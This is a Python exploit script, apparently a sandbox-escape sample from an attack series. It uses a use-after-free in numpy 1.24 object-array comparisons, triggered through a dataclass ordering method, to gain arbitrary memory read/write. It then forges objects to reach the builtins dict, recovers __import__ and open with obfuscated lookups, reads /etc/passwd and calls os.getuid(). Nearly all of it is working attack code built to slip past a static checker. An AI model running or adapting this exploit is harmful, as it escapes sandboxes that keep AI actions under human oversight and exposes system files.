# source: as attack12bh_025 (numpy 1.24 npy_ObjectMax + PyUFunc_OO_O INCREF after the comparison; dataclass order=True comparing field tuples with the script's __eq__), then a fakeobj through a __slots__ slot written with the arbitrary write
# family: use-after-free in numpy object-array ufunc loops -> arbitrary read/write -> builtins dict -> __import__/open (full escape of the static check)
# goal: imports `this` (prints the Zen of Python), reads /etc/passwd with the real open(), and calls os.getuid() through __import__
import numpy as np
from dataclasses import dataclass, field

M64 = (1 << 64) - 1


def addr_of_type(t):
    h = hash(t) & M64
    return ((h << 4) | (h >> 60)) & M64


def q(v):
    return (v & M64).to_bytes(8, "little")


class X:
    def __init__(self, k):
        self.k = k

    def __eq__(self, other):
        if G["n"] == 0:
            G["n"] = 1
            b[0] = 0        # drops the array's reference to the second operand
        return True


@dataclass(order=True, slots=True)
class Quote:
    # order=True: the library writes the ordering methods; they compare field tuples,
    # which calls X.__eq__ while numpy holds its operands by borrowed pointers
    venue: object
    seq: int
    f1: object = field(default=None, compare=False)
    f2: object = field(default=None, compare=False)
    f3: object = field(default=None, compare=False)


G = {"n": 0}
T_BYTEARRAY = addr_of_type(bytearray)
# a fake bytearray over the whole address space, at the freed Quote's object (block + 16)
FAKE = q(1 << 40) + q(T_BYTEARRAY) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(1)
P = b"\x00" * 16 + FAKE                 # 72 bytes
P = P + b"\x00" * (79 - len(P))         # buffer 80 = the Quote's block
spray = [None] * 256

a = np.empty(1, dtype=object)
b = np.empty(1, dtype=object)
a[0] = Quote(X(0), 1)
b[0] = Quote(X(1), 2)
res = np.maximum(a, b)          # Quote(.., 1) >= Quote(.., 2) is False: numpy keeps b's, freed meanwhile
for i in range(256):
    spray[i] = bytearray(P)     # the freed block is now the fake bytearray
mem = res[0]
print("maximum returned:", type(mem).__name__)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def cstr(addr):
    out = b""
    while mem[addr] != 0:
        out += bytes([mem[addr]])
        addr += 1
    return out


t = addr_of_type(tuple)
print("read tuple type's tp_name at", hex(t), "->", cstr(rd(t + 24)))


class Holder:
    __slots__ = ("p",)


def wr(addr, v):
    for j, ch in enumerate(q(v)):
        mem[addr + j] = ch


def addr_from_repr(o):
    return int(repr(o).split(" at ")[1][:-1], 16)


def strategy():
    return 1


# fakeobj: an address written into a slot of the script's own object (its repr shows where)
h = Holder()
h.p = None
wr(addr_from_repr(h) + 16, rd(addr_from_repr(strategy) + 24))   # func_builtins (3.11)
bd = h.p
h.p = None
print("builtins dict reached:", type(bd).__name__, len(bd))
imp = None
opn = None
for k in bd:
    if k.startswith("_") and k.strip("_") == "import":
        imp = bd[k]
    if k.startswith("op") and len(k) == 4:
        opn = bd[k]
imp("this")
print(opn(chr(47).join(["", "etc", "passwd"])).read()[:120])
print("os.getuid() through the import builtin:", imp("o" + "s").getuid())
